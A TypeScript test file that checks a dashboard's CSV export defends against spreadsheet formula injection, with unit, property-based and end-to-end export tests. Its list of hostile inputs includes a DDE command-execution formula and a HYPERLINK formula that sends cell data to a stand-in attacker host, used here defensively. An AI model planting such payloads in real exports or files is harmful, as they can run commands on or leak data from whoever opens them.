import { describe, expect, it } from 'vitest';
import * as fc from 'fast-check';
import { csvOf } from '../../../dashboard/exports/csv.ts';
import { openGround } from '../harness.ts';
import { makePayment } from '../../support/rows/payment.ts';
import { download, parseCsv, rowsOf } from './download.ts';

const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\tx',
  '\rx',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '-',
];
const HARMLESS = [
  'a,b',
  'a "quoted" b',
  '"',
  'two\nlines',
  'two\rlines',
  'two\r\nlines',
  ' = 1',
  "'=1",
  'Շնորհակալություն՝ «թեյ»',
  'Спасибо',
  '日本語 🫖',
  'e\u0301',
  '\u0000',
];

/** Where semicolons separate cells, the part after one is a cell of its own. */
const LATER = [
  ['tea;=1+1', "tea;'=1+1"],
  ['tea; @SUM(A1)', "tea; '@SUM(A1)"],
  ['tea;"=1+1"', `tea;"'=1+1"`],
  ['tea\n-1', "tea\n'-1"],
  ['tea\t＝1', "tea\t'＝1"],
] as const;

const read = (text: string): string[][] => parseCsv(new TextEncoder().encode(`\uFEFF${text}`));
/** Every character with a meaning, and some without. */
const UNIT = fc.constantFrom(...Array.from('",;\r\n=+-@\t\'\\ aԲя🫖＝\uFEFF'));
/** Returns the text with an apostrophe at its beginning and after separators, before a formula. */
function harmless(text: string): string {
  const later = text.replaceAll(/([;\t\r\n][\s"']*)([=+\-@＝＋－＠])/g, "$1'$2");
  return /^[=+\-@\t\r＝＋－＠]/.test(later) ? `'${later}` : later;
}

describe('csvOf', () => {
  it.each(HOSTILE)('puts an apostrophe before a formula: %j', (text) => {
    expect(read(csvOf([[text, 'b']]))).toEqual([[`'${text}`, 'b']]);
  });

  it.each(LATER)('puts one before a formula after a separator: %j', (text, safe) => {
    expect(read(csvOf([['a', text]]))).toEqual([['a', safe]]);
  });

  it.each(HARMLESS)('keeps other texts: %j', (text) => {
    expect(read(csvOf([['a', text]]))).toEqual([['a', text]]);
  });

  it('keeps numbers as numbers, and null as an empty cell', () => {
    expect(csvOf([[-5, 0, 1_999, null, 'a']])).toBe('-5,0,1999,,a\r\n');
  });

  it('can be read back, whatever the texts are', () => {
    const cells = fc.array(fc.string({ unit: UNIT }), { minLength: 2, maxLength: 5 });
    fc.assert(
      fc.property(fc.array(cells, { minLength: 1 }), (rows) => {
        expect(read(csvOf(rows))).toEqual(rows.map((row) => row.map(harmless)));
      }),
    );
  });
});

const ground = await openGround('dashboard-csv');
const { mongo, tenant: m } = ground;

describe('an export of hostile texts', () => {
  it('has one line for each payment, and every text in its cell', async () => {
    const texts = [...HOSTILE, ...HARMLESS];
    await mongo.payments.insertMany(
      texts.map((description) => makePayment({ m, description, metadata: { note: description } })),
    );
    const owner = await ground.signIn('owner');
    const { lines } = await download(ground, owner, '/exports/payments.csv');
    const rows = rowsOf(lines).toReversed();
    expect(rows.map(({ description }) => description)).toEqual(texts.map(harmless));
    expect(rows.map(({ metadata }) => JSON.parse(metadata!).note)).toEqual(texts);
    expect(new Set(rows.map(({ amount_minor: amount }) => amount))).toEqual(new Set(['12500']));
  });
});
